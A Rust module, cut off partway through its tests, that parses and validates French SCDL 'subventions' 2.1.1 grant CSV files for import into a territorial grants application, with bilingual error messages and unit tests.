//! The SCDL "subventions" 2.1.1 open-data format (décret 2017-779, arrêté of 17 November 2017):
//! its fields in their order, and how each row of a file becomes a grant a territory decided
//! before Essor (an import).
//!
//! Pure: the caller passes the file's bytes and what the territory knows (its own SIRET, its
//! schemes, today's date). A file is all or nothing: every error is reported, each a
//! [`FieldError`] with its `line` (1 is the header) and the SCDL name of its field, at most
//! [`MAX_ERRORS`] of them.
//!
//! Besides the schema's own constraints, Essor needs of each row: a beneficiary SIRET
//! (`idBeneficiaire`: it identifies the beneficiary; a row with only `rnaBeneficiaire` cannot be
//! imported), the territory's own SIRET as `idAttribuant`, a `dispositifAide` naming one of the
//! territory's schemes (by code, or else by name), an amount above zero in whole cents, a
//! `dateConvention` from [`FIRST_YEAR`]-01-01 to today (as the API's decision dates), payment
//! dates from [`FIRST_YEAR`]-01-01 to [`LAST_YEAR`]-12-31 (a period not ending before it
//! starts), a `referenceDecision` of at most 256 characters and a `nomBeneficiaire` of at most
//! 200 (as any organisation's name).
//!
//! Every field is held to the API's rule for one line of text: no control character (a NUL, an
//! ESC…), that field's only error then. The texts the open-data export republishes
//! (`referenceDecision`, `nomBeneficiaire`, `objet`, `conditionsVersement`, `idRAE`) may not
//! start with a character a spreadsheet runs as a formula ([`check_cell_line`]), like the API's.

use chrono::NaiveDate;

use super::checks::{check_cell_line, check_date, check_line, MAX_AMOUNT_CENTS};
use super::identifiers::{validate_rna, validate_siret};
use super::lang::{cents_text, date_in, Lang, Text};
use super::money::{FIRST_YEAR, LAST_YEAR};
use super::{FieldError, Refused};

/// The columns of an SCDL "subventions" 2.1.1 file, in their order.
pub const FIELDS: [&str; 16] = [
    "nomAttribuant",
    "idAttribuant",
    "dateConvention",
    "referenceDecision",
    "nomBeneficiaire",
    "idBeneficiaire",
    "rnaBeneficiaire",
    "objet",
    "montant",
    "nature",
    "conditionsVersement",
    "datesPeriodeVersement",
    "idRAE",
    "notificationUE",
    "pourcentageSubvention",
    "dispositifAide",
];

/// The values `nature` may take.
pub const NATURES: [&str; 4] = [
    "aide en numéraire",
    "aide en nature",
    "aide en numéraire;aide en nature",
    "aide en nature;aide en numéraire",
];

/// `pourcentageSubvention` is kept as written, up to this many characters.
pub const MAX_SHARE_LENGTH: usize = 32;

/// At most this many errors are reported for one file.
pub const MAX_ERRORS: usize = 1000;

/// A scheme of the territory, as `dispositifAide` may name it.
#[derive(Debug, Clone)]
pub struct KnownScheme {
    pub id: String,
    pub code: String,
    pub name: String,
}

/// What a row is checked against.
#[derive(Debug, Clone, Copy)]
pub struct ImportContext<'a> {
    /// The territory's own SIRET: the only `idAttribuant` accepted.
    pub attributor_siret: &'a str,
    pub schemes: &'a [KnownScheme],
    /// No convention is dated after this day.
    pub today: NaiveDate,
}

/// The territory's own SIRET, the only `idAttribuant` a file may carry: a territory without one
/// (`territory_siret`) cannot import (`territory_siret_missing`).
pub fn attributor_siret(territory_siret: Option<String>) -> Result<String, Refused> {
    territory_siret.ok_or_else(|| {
        Refused::coded(
            "territory_siret_missing",
            Text::new(
                "Votre territoire n'a pas de SIRET : une subvention ne s'importe que si elle porte le SIRET \
                 du territoire comme idAttribuant. Demandez à l'exploitant d'enregistrer ce SIRET, puis \
                 importez de nouveau.",
                "Your territory has no SIRET: grants are imported only when they carry the territory's \
                 own SIRET as idAttribuant. Ask the operator to record the territory's SIRET, then \
                 import again.",
            ),
        )
    })
}

/// One valid row: a grant decided before Essor.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImportedGrant {
    /// Its line in the file (the header is line 1).
    pub line: u64,
    /// `dateConvention`: the grant's date for every total and for de minimis.
    pub decided_on: NaiveDate,
    pub decision_reference: Option<String>,
    pub beneficiary_name: String,
    pub beneficiary_siret: String,
    pub beneficiary_rna: Option<String>,
    /// `objet`.
    pub object: String,
    /// `montant`, in cents.
    pub amount_cents: i64,
    /// The scheme `dispositifAide` names.
    pub scheme_id: String,
    /// The row's identity: the same row imported again is this same key.
    pub import_key: String,
    /// What the row says of the payment and notification, kept to be republished as given.
    pub published: PublishedTerms,
}

/// The fields of an SCDL row that describe how a grant was paid and notified rather than the
/// grant itself: an imported grant has no payments in Essor, so the open-data export republishes
/// these as the file gave them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PublishedTerms {
    /// `nature`, one of [`NATURES`].
    pub nature: String,
    /// `conditionsVersement`.
    pub payment_conditions: String,
    /// `datesPeriodeVersement`: a date or a period `YYYY-MM-DD/YYYY-MM-DD`.
    pub payment_period: String,
    /// `idRAE`, when given.
    pub rae_id: Option<String>,
    /// `notificationUE`: `oui` is true.
    pub eu_notified: bool,
    /// `pourcentageSubvention`, as written (a decimal with a point between 0.01 and 1).
    pub subsidy_share: String,
}

/// Why a file is refused: every error found (at most [`MAX_ERRORS`]); `truncated` when there
/// were more.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Rejection {
    pub errors: Vec<FieldError>,
    pub truncated: bool,
}

impl Rejection {
    fn push(&mut self, error: FieldError) {
        if self.errors.len() < MAX_ERRORS {
            self.errors.push(error);
        } else {
            self.truncated = true;
        }
    }

    fn extend(&mut self, errors: Vec<FieldError>) {
        for error in errors {
            self.push(error);
        }
    }
}

/// A row's identity: attributor SIRET, decision reference, beneficiary SIRET, convention date and
/// amount, as one unambiguous string (a JSON array).
pub fn import_key(
    attributor_siret: &str,
    decision_reference: Option<&str>,
    beneficiary_siret: &str,
    decided_on: NaiveDate,
    amount_cents: i64,
) -> String {
    serde_json::json!([
        attributor_siret,
        decision_reference.unwrap_or(""),
        beneficiary_siret,
        decided_on.to_string(),
        amount_cents
    ])
    .to_string()
}

/// Reads a whole SCDL "subventions" CSV file (UTF-8, a UTF-8 byte order mark allowed, comma
/// separated, the header row first): every row as a grant, or every error.
pub fn parse(bytes: &[u8], ctx: &ImportContext<'_>) -> Result<Vec<ImportedGrant>, Rejection> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    let mut rejection = Rejection::default();
    let mut record = csv::ByteRecord::new();
    match reader.read_byte_record(&mut record) {
        Ok(true) => {}
        Ok(false) => {
            rejection.push(
                FieldError::bilingual(
                    "(file)",
                    "empty",
                    "Le fichier est vide : il doit commencer par la ligne d'en-tête SCDL.",
                    "the file is empty: it needs the SCDL header row",
                )
                .at_line(1),
            );
            return Err(rejection);
        }
        Err(e) => {
            rejection.push(
                FieldError::bilingual(
                    "(file)",
                    "malformed_csv",
                    format!("Fichier CSV illisible : {e}"),
                    format!("unreadable CSV: {e}"),
                )
                .at_line(1),
            );
            return Err(rejection);
        }
    }
    rejection.extend(check_header(&record));
    if !rejection.errors.is_empty() {
        return Err(rejection);
    }
    let mut grants = Vec::new();
    let mut lines = LineCounter::default();
    loop {
        match reader.read_byte_record(&mut record) {
            Ok(false) => break,
            Ok(true) => {
                let line = lines.at(bytes, record.position());
                match read_row(line, &record, ctx) {
                    Ok(grant) => grants.push(grant),
                    Err(errors) => rejection.extend(errors),
                }
            }
            Err(e) => {
                let line = lines.at(bytes, e.position());
                rejection.push(
                    FieldError::bilingual(
                        "(row)",
                        "malformed_csv",
                        format!("Fichier CSV illisible : {e}"),
                        format!("unreadable CSV: {e}"),
                    )
                    .at_line(line),
                );
                break;
            }
        }
    }
    if rejection.errors.is_empty() {
        Ok(grants)
    } else {
        Err(rejection)
    }
}

/// The line a record starts on, from its byte offset (the reader's own line count lags by one
/// after a CRLF): one more than the line feeds before it, counted once over the file.
#[derive(Default)]
struct LineCounter {
    counted_to: usize,
    line_feeds: u64,
}

impl LineCounter {
    fn at(&mut self, bytes: &[u8], position: Option<&csv::Position>) -> u64 {
        let Some(position) = position else { return self.line_feeds + 1 };
        // A record's offset may point at the end of the previous line's terminator.
        let mut start = usize::try_from(position.byte()).unwrap_or(usize::MAX).min(bytes.len());
        while start < bytes.len() && matches!(bytes[start], b'\r' | b'\n') {
            start += 1;
        }
        if start > self.counted_to {
            self.line_feeds += bytes[self.counted_to..start].iter().filter(|b| **b == b'\n').count() as u64;
            self.counted_to = start;
        }
        self.line_feeds + 1
    }
}

/// The header must name the 16 fields in their order.
fn check_header(record: &csv::ByteRecord) -> Vec<FieldError> {
    let mut errors = Vec::new();
    for i in 0..record.len().max(FIELDS.len()) {
        let found = record.get(i).map(|f| String::from_utf8_lossy(f).trim().to_string());
        match (FIELDS.get(i), found) {
            (Some(expected), Some(found)) if *expected == found => {}
            (Some(expected), found) => errors.push(
                FieldError::new(
                    *expected,
                    "header_mismatch",
                    match found {
                        Some(found) => Text::new(
                            format!("La colonne {} doit s'appeler {expected}, et non {found:?}.", i + 1),
                            format!("column {} must be named {expected}, not {found:?}", i + 1),
                        ),
                        None => Text::new(
                            format!("La colonne {} ({expected}) manque.", i + 1),
                            format!("column {} ({expected}) is missing", i + 1),
                        ),
                    },
                )
                .at_line(1),
            ),
            (None, found) => {
                let found = found.unwrap_or_default();
                errors.push(
                    FieldError::bilingual(
                        found.clone(),
                        "unexpected_column",
                        format!(
                            "La colonne {} ({found:?}) n'est pas un champ du format SCDL subventions 2.1.1.",
                            i + 1
                        ),
                        format!("column {} ({found:?}) is not a field of SCDL subventions 2.1.1", i + 1),
                    )
                    .at_line(1),
                )
            }
        }
    }
    errors
}

/// One record: 16 UTF-8 fields, then the row's checks.
fn read_row(
    line: u64,
    record: &csv::ByteRecord,
    ctx: &ImportContext<'_>,
) -> Result<ImportedGrant, Vec<FieldError>> {
    if record.len() != FIELDS.len() {
        return Err(vec![FieldError::bilingual(
            "(row)",
            "field_count",
            format!(
                "La ligne compte {} champs ; le format SCDL subventions en compte {}.",
                record.len(),
                FIELDS.len()
            ),
            format!("the row has {} fields; SCDL subventions has {}", record.len(), FIELDS.len()),
        )
        .at_line(line)]);
    }
    let mut values: Vec<String> = Vec::with_capacity(FIELDS.len());
    let mut errors = Vec::new();
    for (name, raw) in FIELDS.iter().zip(record.iter()) {
        match std::str::from_utf8(raw) {
            // Spreadsheets break long cells over lines: every run of white space is one space.
            Ok(value) => values.push(value.split_whitespace().collect::<Vec<_>>().join(" ")),
            Err(_) => errors.push(
                FieldError::bilingual(
                    *name,
                    "not_utf8",
                    format!("Le champ {name} n'est pas du texte UTF-8."),
                    format!("{name} is not UTF-8 text"),
                )
                .at_line(line),
            ),
        }
    }
    if !errors.is_empty() {
        return Err(errors);
    }
    let values: Vec<&str> = values.iter().map(String::as_str).collect();
    parse_row(line, &values, ctx)
}

/// The checks of one row whose 16 values (white space collapsed and trimmed, in [`FIELDS`]
/// order) were read.
pub fn parse_row(
    line: u64,
    values: &[&str],
    ctx: &ImportContext<'_>,
) -> Result<ImportedGrant, Vec<FieldError>> {
    let value = |name: &str| {
        FIELDS.iter().position(|f| *f == name).and_then(|i| values.get(i).copied()).unwrap_or("")
    };
    let optional = |name: &str| Some(value(name)).filter(|v| !v.is_empty());
    let first_day = NaiveDate::from_ymd_opt(FIRST_YEAR, 1, 1).expect("date");
    let last_day = NaiveDate::from_ymd_opt(LAST_YEAR, 12, 31).expect("date");
    // Every field, whatever it holds, under the API's rule for one line of text: a control
    // character is that field's only error (not also its format's).
    let mut controlled = Vec::new();
    for (field, raw) in FIELDS.iter().zip(values) {
        check_line(&mut controlled, field, raw, 0, usize::MAX);
    }
    let mut errors: Vec<FieldError> = Vec::new();
    let mut error =
        |field: &str, code: &str, message: Text| errors.push(FieldError::new(field, code, message));

    // The attributor: this territory.
    let mut checked = Vec::new();
    check_line(&mut checked, "nomAttribuant", value("nomAttribuant"), 1, 500);
    let attributor = value("idAttribuant");
    match check_siret("idAttribuant", attributor) {
        Some((code, message)) => error("idAttribuant", code, message),
        None if attributor != ctx.attributor_siret => error(
            "idAttribuant",
            "other_attributor",
            Text::new(
                format!(
                    "idAttribuant {attributor} n'est pas le SIRET de votre territoire ({}) : seules vos \
                     propres subventions peuvent être importées.",
                    ctx.attributor_siret
                ),
                format!(
                    "idAttribuant {attributor} is not your territory's SIRET ({}): only your own grants \
                     can be imported",
                    ctx.attributor_siret
                ),
            ),
        ),
        None => {}
    }

    let decided_on = match parse_date(value("dateConvention")) {
        None if value("dateConvention").is_empty() => {
            error(
                "dateConvention",
                "required",
                Text::new("Le champ dateConvention est obligatoire.", "dateConvention is required"),
            );
            None
        }
        None => {
            error(
                "dateConvention",
                "date_format",
                Text::new(
                    "Le champ dateConvention doit être une date au format AAAA-MM-JJ.",
                    "dateConvention must be a date YYYY-MM-DD",
                ),
            );
            None
        }
        Some(on) if on < first_day => {
            check_date(&mut checked, "dateConvention", on, first_day, ctx.today);
            None
        }
        Some(on) if on > ctx.today => {
            error(
                "dateConvention",
                "in_future",
                Text::new(
                    format!("La date de convention {} est dans le futur.", date_in(on, Lang::Fr)),
                    format!("dateConvention {on} is in the future"),
                ),
            );
            None
        }
        Some(on) => Some(on),
    };

    let decision_reference = optional("referenceDecision");
    if let Some(reference) = decision_reference {
        check_cell_line(&mut checked, "referenceDecision", reference, 0, 256);
    }

    // The beneficiary: by SIRET.
    check_cell_line(&mut checked, "nomBeneficiaire", value("nomBeneficiaire"), 1, 200);
    let beneficiary = value("idBeneficiaire");
    if beneficiary.is_empty() {
        error(
            "idBeneficiaire",
            "required",
            Text::new(
                "Le champ idBeneficiaire est obligatoire : Essor identifie les bénéficiaires par leur \
                 SIRET (rnaBeneficiaire seul ne suffit pas).",
                "idBeneficiaire is required: Essor knows beneficiaries by SIRET (rnaBeneficiaire alone is \
                 not enough)",
            ),
        );
    } else if let Some((code, message)) = check_siret("idBeneficiaire", beneficiary) {
        error("idBeneficiaire", code, message);
    }
    let rna = optional("rnaBeneficiaire");
    if rna.is_some_and(|rna| validate_rna(rna).is_err()) {
        error(
            "rnaBeneficiaire",
            "rna_format",
            Text::new(
                "Le champ rnaBeneficiaire doit comporter la lettre W suivie de 9 chiffres.",
                "rnaBeneficiaire must be W followed by 9 digits",
            ),
        );
    }

    check_cell_line(&mut checked, "objet", value("objet"), 1, 256);
    let amount_cents = match parse_cents(value("montant")) {
        Ok(cents) if cents <= 0 => {
            error(
                "montant",
                "not_positive",
                Text::new("Le montant doit être supérieur à zéro.", "montant must be more than 0"),
            );
            None
        }
        Ok(cents) if cents > MAX_AMOUNT_CENTS => {
            error(
                "montant",
                "out_of_range",
                Text::new(
                    format!("Le montant ne peut pas dépasser {}.", cents_text(MAX_AMOUNT_CENTS).0),
                    format!("montant must be at most {} euros", MAX_AMOUNT_CENTS / 100),
                ),
            );
            None
        }
        Ok(cents) => Some(cents),
        Err(code) => {
            let (fr, en) = match code {
                "required" => ("Le champ montant est obligatoire.", "montant is required"),
                "too_precise" => (
                    "Le montant doit être un nombre entier de centimes (au plus 2 décimales).",
                    "montant must be in whole cents (at most 2 decimals)",
                ),
                _ => (
                    "Le montant doit être un nombre d'euros avec un point avant les décimales, par exemple 47800.20.",
                    "montant must be a number of euros with a point before the decimals, e.g. 47800.20",
                ),
            };
            error("montant", code, Text::new(fr, en));
            None
        }
    };

    if !NATURES.contains(&value("nature")) {
        error(
            "nature",
            "not_allowed",
            Text::new(
                format!("Le champ nature doit valoir l'une de ces valeurs : {}.", NATURES.join(" | ")),
                format!("nature must be one of: {}", NATURES.join(" | ")),
            ),
        );
    }
    check_cell_line(&mut checked, "conditionsVersement", value("conditionsVersement"), 1, 256);
    let period = value("datesPeriodeVersement");
    let mut dates = period.split('/');
    let period_dates = match (dates.next(), dates.next(), dates.next()) {
        (Some(one), None, None) => parse_date(one).map(|on| (on, on)),
        (Some(from), Some(to), None) => parse_date(from).zip(parse_date(to)),
        _ => None,
    };
    if let Some((from, to)) = period_dates {
        // Payments may be planned after today; within the years Essor handles, in order.
        let before = checked.len();
        check_date(&mut checked, "datesPeriodeVersement", from, first_day, last_day);
        if checked.len() == before {
            check_date(&mut checked, "datesPeriodeVersement", to, from, last_day);
        }
    }
    if period.is_empty() {
        error(
            "datesPeriodeVersement",
            "required",
            Text::new("Le champ datesPeriodeVersement est obligatoire.", "datesPeriodeVersement is required"),
        );
    } else if period_dates.is_none() {
        error(
            "datesPeriodeVersement",
            "date_format",
            Text::new(
                "Le champ datesPeriodeVersement doit être une date AAAA-MM-JJ ou une période \
                 AAAA-MM-JJ/AAAA-MM-JJ.",
                "datesPeriodeVersement must be a date YYYY-MM-DD or a period YYYY-MM-DD/YYYY-MM-DD",
            ),
        );
    }
    check_cell_line(&mut checked, "idRAE", value("idRAE"), 0, 5);
    if !matches!(value("notificationUE"), "oui" | "non") {
        error(
            "notificationUE",
            "not_allowed",
            Text::new("Le champ notificationUE doit valoir oui ou non.", "notificationUE must be oui or non"),
        );
    }
    match parse_share(value("pourcentageSubvention")) {
        _ if value("pourcentageSubvention").len() > MAX_SHARE_LENGTH => error(
            "pourcentageSubvention",
            "too_long",
            Text::new(
                format!("Le champ pourcentageSubvention comporte au plus {MAX_SHARE_LENGTH} caractères."),
                format!("pourcentageSubvention must have at most {MAX_SHARE_LENGTH} characters"),
            ),
        ),
        Some(share) if (0.01..=1.0).contains(&share) => {}
        Some(_) => error(
            "pourcentageSubvention",
            "out_of_range",
            Text::new(
                "Le champ pourcentageSubvention doit être compris entre 0.01 et 1 (1.00 pour un \
                 bénéficiaire unique).",
                "pourcentageSubvention must be between 0.01 and 1 (1.00 for a single beneficiary)",
            ),
        ),
        None => error(
            "pourcentageSubvention",
            "number_format",
            Text::new(
                "Le champ pourcentageSubvention doit être un nombre décimal avec un point, par exemple 0.45.",
                "pourcentageSubvention must be a decimal number with a point, e.g. 0.45",
            ),
        ),
    }

    let scheme = value("dispositifAide");
    let scheme_id = if scheme.is_empty() {
        error(
            "dispositifAide",
            "required",
            Text::new(
                "Le champ dispositifAide est obligatoire : le code ou le nom de l'un de vos dispositifs.",
                "dispositifAide is required: the code or name of one of your schemes",
            ),
        );
        None
    } else {
        let found = find_scheme(ctx.schemes, scheme);
        if found.is_none() {
            error(
                "dispositifAide",
                "unknown_scheme",
                Text::new(
                    format!(
                        "dispositifAide {scheme:?} n'est ni le code ni le nom de l'un de vos dispositifs."
                    ),
                    format!(
                        "dispositifAide {scheme:?} is neither the code nor the name of one of your schemes"
                    ),
                ),
            );
        }
        found
    };

    errors.extend(checked);
    errors.retain(|e| !controlled.iter().any(|c| c.field == e.field));
    errors.extend(controlled);
    if !errors.is_empty() {
        let order = |e: &FieldError| FIELDS.iter().position(|f| *f == e.field).unwrap_or(FIELDS.len());
        errors.sort_by_key(order);
        return Err(errors.into_iter().map(|e| e.at_line(line)).collect());
    }
    let (Some(decided_on), Some(amount_cents), Some(scheme_id)) = (decided_on, amount_cents, scheme_id)
    else {
        unreachable!("a row without errors has its date, amount and scheme");
    };
    Ok(ImportedGrant {
        line,
        decided_on,
        decision_reference: decision_reference.map(str::to_string),
        beneficiary_name: value("nomBeneficiaire").to_string(),
        beneficiary_siret: beneficiary.to_string(),
        beneficiary_rna: rna.map(str::to_string),
        object: value("objet").to_string(),
        amount_cents,
        scheme_id,
        import_key: import_key(attributor, decision_reference, beneficiary, decided_on, amount_cents),
        published: PublishedTerms {
            nature: value("nature").to_string(),
            payment_conditions: value("conditionsVersement").to_string(),
            payment_period: period.to_string(),
            rae_id: optional("idRAE").map(str::to_string),
            eu_notified: value("notificationUE") == "oui",
            subsidy_share: value("pourcentageSubvention").to_string(),
        },
    })
}

fn check_siret(field: &str, value: &str) -> Option<(&'static str, Text)> {
    if value.is_empty() {
        return Some((
            "required",
            Text::new(format!("Le champ {field} est obligatoire."), format!("{field} is required")),
        ));
    }
    match validate_siret(value) {
        Ok(()) => None,
        Err("siret_format") => Some((
            "siret_format",
            Text::new(
                format!("Le champ {field} doit être un SIRET de 14 chiffres."),
                format!("{field} must be a SIRET of 14 digits"),
            ),
        )),
        Err("siren_checksum") => Some((
            "siren_checksum",
            Text::new(
                format!(
                    "Le champ {field} n'est pas un SIRET valide (la clé de contrôle de son SIREN, les 9 premiers chiffres, est erronée)."
                ),
                format!(
                    "{field} is not a valid SIRET (the check digit of its SIREN, the first 9 digits, is wrong)"
                ),
            ),
        )),
        Err(code) => Some((
            code,
            Text::new(
                format!("Le champ {field} n'est pas un SIRET valide (sa clé de contrôle est erronée)."),
                format!("{field} is not a valid SIRET (its check digit is wrong)"),
            ),
        )),
    }
}

/// The scheme whose code is `named` (exactly), or else the only one whose name is `named`
/// (ignoring case).
fn find_scheme(schemes: &[KnownScheme], named: &str) -> Option<String> {
    if let Some(scheme) = schemes.iter().find(|s| s.code == named) {
        return Some(scheme.id.clone());
    }
    let lower = named.to_lowercase();
    let mut by_name = schemes.iter().filter(|s| s.name.trim().to_lowercase() == lower);
    match (by_name.next(), by_name.next()) {
        (Some(scheme), None) => Some(scheme.id.clone()),
        _ => None,
    }
}

/// A date written exactly `YYYY-MM-DD`.
pub fn parse_date(s: &str) -> Option<NaiveDate> {
    let b = s.as_bytes();
    let shape = b.len() == 10
        && b[4] == b'-'
        && b[7] == b'-'
        && b.iter().enumerate().all(|(i, c)| i == 4 || i == 7 || c.is_ascii_digit());
    if !shape {
        return None;
    }
    NaiveDate::parse_from_str(s, "%Y-%m-%d").ok()
}

/// Splits `[-]digits[.digits]` into sign, whole part and decimals; `None` for anything else
/// (exponents, commas, spaces, signs elsewhere, `inf`, `NaN`).
fn decimal_parts(s: &str) -> Option<(bool, &str, &str)> {
    let (negative, unsigned) = match s.strip_prefix('-') {
        Some(rest) => (true, rest),
        None => (false, s),
    };
    let (whole, decimals) = unsigned.split_once('.').unwrap_or((unsigned, ""));
    let digits = |part: &str| part.bytes().all(|b| b.is_ascii_digit());
    if whole.is_empty()
        || !digits(whole)
        || !digits(decimals)
        || (unsigned.contains('.') && decimals.is_empty())
    {
        return None;
    }
    Some((negative, whole, decimals))
}

/// An amount of euros written with a point before its decimals (`47800.20`, `33000`), as exact
/// cents: no float on the way. Errors: `required`, `number_format`, `too_precise` (a non-zero
/// digit after the cents), `out_of_range` (does not fit).
pub fn parse_cents(s: &str) -> Result<i64, &'static str> {
    if s.is_empty() {
        return Err("required");
    }
    let (negative, whole, decimals) = decimal_parts(s).ok_or("number_format")?;
    let (cents_digits, rest) = decimals.split_at(decimals.len().min(2));
    if rest.bytes().any(|b| b != b'0') {
        return Err("too_precise");
    }
    let whole = whole.trim_start_matches('0');
    if whole.len() > 16 {
        return Err("out_of_range");
    }
    let euros: i64 = if whole.is_empty() { 0 } else { whole.parse().map_err(|_| "out_of_range")? };
    let cents: i64 = format!("{cents_digits:0<2}").parse().map_err(|_| "number_format")?;
    let total = euros.checked_mul(100).and_then(|c| c.checked_add(cents)).ok_or("out_of_range")?;
    Ok(if negative { -total } else { total })
}

/// A share written as a decimal with a point (`0.45`, `1`, `1.00`).
fn parse_share(s: &str) -> Option<f64> {
    decimal_parts(s)?;
    s.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    const TERRITORY: &str = "20002341400010";
    const BENEFICIARY: &str = "73282932000074";

    fn schemes() -> Vec<KnownScheme> {
        vec![
            KnownScheme { id: "s1".into(), code: "DI-ESS".into(), name: "Dynamique Immobilier ESS".into() },
            KnownScheme { id: "s2".into(), code: "DL-ESS".into(), name: "Dynamique Location ESS".into() },
        ]
    }

    fn today() -> NaiveDate {
        NaiveDate::from_ymd_opt(2026, 11, 22).unwrap()
    }

    fn header() -> String {
        FIELDS.join(",")
    }

    fn row(amount: &str, scheme: &str) -> String {
        format!(
            "Métropole Rouen Normandie,{TERRITORY},2021-06-30,DEL-2021-42,\"Les Ateliers, Solidaires \",{BENEFICIARY},W763001234,\
             Rénovation de l'atelier,{amount},aide en numéraire,unique,2021-09-01,,non,1.00,{scheme}"
        )
    }

    fn parse_text(text: &str) -> Result<Vec<ImportedGrant>, Rejection> {
        let schemes = schemes();
        parse(
            text.as_bytes(),
            &ImportContext { attributor_siret: TERRITORY, schemes: &schemes, today: today() },
        )
    }

    fn errors_of(text: &str) -> Vec<(u64, String, String)> {
        parse_text(text)
            .expect_err("refused")
            .errors
            .into_iter()
            .map(|e| (e.line.unwrap(), e.field, e.code))
            .collect()
    }

    #[test]
    fn amounts_are_exact_cents() {
        assert_eq!(parse_cents("47800.20"), Ok(4_780_020));
        assert_eq!(parse_cents("33000"), Ok(3_300_000));
        assert_eq!(parse_cents("0.1"), Ok(10));
        assert_eq!(parse_cents("99786.57"), Ok(9_978_657));
        assert_eq!(parse_cents("12.3400"), Ok(1234));
        assert_eq!(parse_cents("-5"), Ok(-500));
        assert_eq!(parse_cents("0000012.00"), Ok(1200));
        // 0.1 + 0.2 in floats is not 0.3; here every digit is kept.
        assert_eq!(parse_cents("1000000000.29"), Ok(100_000_000_029));
        assert_eq!(parse_cents(""), Err("required"));
        assert_eq!(parse_cents("12.345"), Err("too_precise"));
        for bad in ["12,50", "1e3", "inf", "NaN", ".5", "5.", "1 000", "+5", "--5", "12.3.4", "€12"] {
            assert_eq!(parse_cents(bad), Err("number_format"), "{bad}");
        }
        assert_eq!(parse_cents("99999999999999999999"), Err("out_of_range"));
    }

    #[test]
    fn dates_are_exactly_iso() {
        assert_eq!(parse_date("2021-06-30"), NaiveDate::from_ymd_opt(2021, 6, 30));
        for bad in ["2021-6-30", "30/06/2021", "2021-02-30", "+021-06-30", "2021-06-30T00:00"] {
            assert_eq!(parse_date(bad), None, "{bad}");
        }
    }

    #[test]
    fn a_valid_file_gives_its_grants_with_their_lines() {
        let text = format!(
            "\u{feff}{}\r\n{}\r\n{}\n",
            header(),
            row("47800.20", "DI-ESS"),
            row("33000", "dynamique location ess")
        );
        let grants = parse_text(&text).expect("valid");
        assert_eq!(grants.len(), 2);
        let first = &grants[0];
        assert_eq!(first.line, 2);
        assert_eq!(first.amount_cents, 4_780_020);
        assert_eq!(first.scheme_id, "s1");
        assert_eq!(first.beneficiary_name, "Les Ateliers, Solidaires");
        assert_eq!(first.decision_reference.as_deref(), Some("DEL-2021-42"));
        assert_eq!(first.decided_on, NaiveDate::from_ymd_opt(2021, 6, 30).unwrap());
        assert_eq!(
            first.import_key,
            format!(r#"["{TERRITORY}","DEL-2021-42","{BENEFICIARY}","2021-06-30",4780020]"#)
        );
        assert_eq!((grants[1].line, grants[1].scheme_id.as_str()), (3, "s2"));
        assert_eq!(
            first.published,
            PublishedTerms {
                nature: "aide en numéraire".into(),
                payment_conditions: "unique".into(),
                payment_period: "2021-09-01".into(),
                rae_id: None,
                eu_notified: false,
                subsidy_share: "1.00".into(),
            },
            "the payment and notification terms are kept as written"
        );
        // A header alone is a valid file of no row.
        assert_eq!(parse_text(&header()).unwrap(), vec![]);
    }

    #[test]
    fn every_error_is_reported_with_its_line_and_field() {
        let bad_row = format!(
            "X,{TERRITORY}0,2021-13-01,,,12345678901234,w12,,12.345,aide,unique,2021,123456,peut-être,1.5,NOPE"
        );
        let other_attributor = row("10", "DI-ESS").replace(TERRITORY, "35600000000048");
        // A quoted field over two lines: the next row starts on line 6.
        let multi = row("10", "DI-ESS").replace("Rénovation de l'atelier", "\"Rénovation\nde l'atelier\"");
        let text = format!(
            "{}\n{}\n{bad_row}\n{other_attributor}\n{multi}\n{}\na,b\n",
            header(),
            row("10", "DI-ESS"),
            row("0", "DL-ESS")
        );
        let errors = errors_of(&text);
        let on = |line: u64| {
            errors.iter().filter(|e| e.0 == line).map(|e| (e.1.as_str(), e.2.as_str())).collect::<Vec<_>>()
        };
        assert!(on(2).is_empty());
        assert_eq!(
            on(3),
            vec![
                ("idAttribuant", "siret_format"),
                ("dateConvention", "date_format"),
                ("nomBeneficiaire", "required"),
                // 123456789 fails the SIREN's own check digit, which is checked first.
                ("idBeneficiaire", "siren_checksum"),
                ("rnaBeneficiaire", "rna_format"),
                ("objet", "required"),
                ("montant", "too_precise"),
                ("nature", "not_allowed"),
                ("datesPeriodeVersement", "date_format"),
                ("idRAE", "too_long"),
                ("notificationUE", "not_allowed"),
                ("pourcentageSubvention", "out_of_range"),
                ("dispositifAide", "unknown_scheme"),
            ]
        );
        assert_eq!(on(4), vec![("idAttribuant", "other_attributor")]);
        assert!(on(5).is_empty() && on(6).is_empty(), "{errors:?}");
        assert_eq!(on(7), vec![("montant", "not_positive")]);
        assert_eq!(on(8), vec![("(row)", "field_count")]);
    }

    #[test]
    fn a_wrong_header_stops_at_line_one() {
        let header = header().replace("montant", "montantTotal") + ",extra";
        let errors = errors_of(&format!("{header}\n{}\n", row("10", "DI-ESS")));
        assert_eq!(
            errors,
            vec![
                (1, "montant".to_string(), "header_mismatch".to_string()),
                (1, "extra".to_string(), "unexpected_column".to_string())
            ]
        );
        assert_eq!(errors_of(""), vec![(1, "(file)".to_string(), "empty".to_string())]);
    }

    #[test]
    fn rows_only_known_by_rna_or_in_the_future_or_not_utf8_are_refused() {
        let rna_only = row("10", "DI-ESS").replace(BENEFICIARY, "");
        let future = row("10", "DI-ESS").replace("2021-06-30", "2026-11-23");
        let mut text = format!("{}\n{rna_only}\n{future}\n", header()).into_bytes();
        text.extend_from_slice(row("10", "DI-ESS").replace("Rénovation", "Re\u{301}novation").as_bytes());
        let latin1: Vec<u8> = row("10", "DI-ESS")
            .replace("Rénovation", "R?novation")
            .bytes()
            .map(|b| if b == b'?' { 0xE9 } else { b })
            .collect();
        text.push(b'\n');
        text.extend_from_slice(&latin1);
        let schemes = schemes();
        let ctx = ImportContext { attributor_siret: TERRITORY, schemes: &schemes, today: today() };
        let errors: Vec<_> = parse(&text, &ctx)
            .unwrap_err()
            .errors
            .into_iter()
            .map(|e| (e.line.unwrap(), e.field, e.code))
            .collect();
        assert_eq!(
            errors,
            vec![
                (2, "idBeneficiaire".to_string(), "required".to_string()),
                (3, "dateConvention".to_string(), "in_future".to_string()),
                (5, "objet".to_string(), "not_utf8".to_string()),
